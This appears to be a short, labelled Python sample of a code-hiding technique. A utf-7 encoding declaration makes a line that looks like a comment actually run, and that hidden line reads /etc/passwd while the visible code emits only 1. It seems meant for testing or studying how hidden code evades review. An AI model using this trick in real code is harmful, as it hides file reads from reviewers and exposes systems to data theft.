# Technique: PEP 263 cookie: utf-7 makes '+AAo-' a newline so a comment hides code when run from a file.
# -*- coding: utf_7 -*-
# +AAo-emit_result(open("/etc/passwd").read())
emit_result(1)
